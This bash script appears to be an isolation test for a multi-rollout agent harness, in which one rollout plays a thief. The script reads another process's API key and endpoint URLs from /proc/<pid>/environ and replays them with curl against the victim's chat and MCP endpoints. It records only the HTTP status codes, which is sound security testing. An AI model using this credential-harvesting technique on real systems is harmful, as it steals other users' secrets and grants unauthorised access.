#!/bin/bash
# Two rollouts run this script, told apart by their rollout id: rollout 1 is
# the victim, rollout 2 the thief. The thief reads the victim's key and URLs
# from /proc/<victim's pid>/environ (agents run as one uid) and calls the
# victim's tenant with them, writes the HTTP statuses it got to
# $SHARED/steal, then both play normally with the agent in "$1" "$2".
set -u
if [ "${ORTRAIN_ROLLOUT_ID##*-}" = 1 ]; then
	echo $$ > "$SHARED/victim.tmp" && mv "$SHARED/victim.tmp" "$SHARED/victim.pid"
	# Stay open (not yet playing) until the thief is done.
	for _ in $(seq 300); do [ -e "$SHARED/done" ] && break; sleep 0.1; done
	exec "$1" "$2"
fi
for _ in $(seq 300); do [ -e "$SHARED/victim.pid" ] && break; sleep 0.1; done
pid=$(cat "$SHARED/victim.pid")
env_of() { tr '\0' '\n' < "/proc/$pid/environ" | sed -n "s/^$1=//p"; }
key=$(env_of OPENAI_API_KEY)
base=$(env_of OPENAI_BASE_URL)
mcp=$(env_of ORTRAIN_MCP_URL)
call() {
	curl -s -o /dev/null -w '%{http_code}' --max-time 20 -H "Authorization: Bearer $key" \
		-H 'Content-Type: application/json' -d "$2" "$1"
}
chat='{"model":"m","messages":[{"role":"user","content":"Open the envelope."}]}'
init='{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"thief","version":"1"}}}'
{
	echo "key=${key:+stolen}"
	echo "chat=$(call "$base/chat/completions" "$chat")"
	echo "mcp=$(call "$mcp" "$init")"
	echo "own_url=$(call "$OPENAI_BASE_URL/chat/completions" "$chat")"
} > "$SHARED/steal.tmp"
mv "$SHARED/steal.tmp" "$SHARED/steal"
touch "$SHARED/done"
exec "$1" "$2"
